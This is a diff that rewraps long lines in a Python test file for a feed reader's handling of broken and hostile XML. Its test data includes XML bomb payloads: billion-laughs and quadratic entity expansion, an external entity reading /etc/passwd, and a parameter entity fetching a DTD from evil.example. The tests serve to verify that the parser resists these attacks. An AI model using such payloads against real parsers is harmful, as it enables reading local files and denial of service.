@@ -139,7 +139,9 @@ def test_the_outlet_is_a_persons_word_or_that_of_the_page_that_is_linked() -> No
 def test_a_feed_that_is_not_well_formed_is_read_all_the_same() -> None:
     feed = rss(ITEM.format("a?x=1&y=2"), "<item><title>Café &nbsp; <br> </title>", ITEM.format("b"))
     assert [one.address for one in read_all(feed)][0] == "https://www.desk.example/a?x=1&y=2"
-    western = rss(ITEM.format("c").replace("Late", "Café")).replace(' version="1.0"', ' version="1.0" encoding="latin-1"')
+    western = rss(ITEM.format("c").replace("Late", "Café")).replace(
+        ' version="1.0"', ' version="1.0" encoding="latin-1"'
+    )
     (one,) = read_all(western.encode("latin-1"))
     assert one.details.title == "Café"
     (one,) = read_all("\n\n " + rss(ITEM.format("d")))
@@ -152,12 +154,15 @@ def test_a_feed_without_entries_is_no_fault() -> None:
 
 BOMBS = {
     "billion laughs": '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>' + rss("&b;"),
-    "external entity": '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + rss("<item><title>&a;</title></item>"),
+    "external entity": '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
+    + rss("<item><title>&a;</title></item>"),
     "parameter entity": '<!DOCTYPE rss [<!ENTITY % a SYSTEM "https://evil.example/x.dtd">%a;]>' + rss(),
     "behind a comment": "<!-- <rss> -->" + '<!DOCTYPE rss [<!ENTITY a "ha">]>' + rss(),
     "quadratic": '<!DOCTYPE rss [<!ENTITY a "' + "a" * 50_000 + '">]>' + rss("&a;" * 10_000),
     "a fault before it": '<!DOCTYPE rss [ & <!ENTITY a "ha">]>' + rss("&a;"),
-    "in UTF-16": ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss [<!ENTITY a "ha">]><rss>&a;</rss>').encode("utf-16"),
+    "in UTF-16": (
+        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss [<!ENTITY a "ha">]><rss>&a;</rss>'
+    ).encode("utf-16"),
 }
 
 
@@ -195,7 +200,9 @@ def test_what_is_no_feed_has_a_reason(data: str | bytes, reason: str) -> None:
     assert "\n" not in one.reason
 
 
-@pytest.mark.parametrize("part", ["<", "<a ", "&", "<![CDATA[", "<!--", "<item><title>", "<b>x</b>", "]]>", "<?x "])
+@pytest.mark.parametrize(
+    "part", ["<", "<a ", "&", "<![CDATA[", "<!--", "<item><title>", "<b>x</b>", "]]>", "<?x "]
+)
 def test_broken_feeds_take_bounded_time(part: str) -> None:
     begin = time.process_time()
     read_all("<rss><channel>&bad;" + part * (600_000 // len(part)))
@@ -249,4 +256,6 @@ def test_xml_in_a_folder_is_not_followed_and_other_xml_is_told(tmp_path: Any) ->
     (one,) = read([tmp_path], warn=told.append)
     assert isinstance(one, Unreadable)
     assert one.source.endswith("b.rss")
-    assert told == [f"{tmp_path.name}/a.xml: passed over, neither a feed nor a sitemap nor an OPML list of feeds"]
+    assert told == [
+        f"{tmp_path.name}/a.xml: passed over, neither a feed nor a sitemap nor an OPML list of feeds"
+    ]
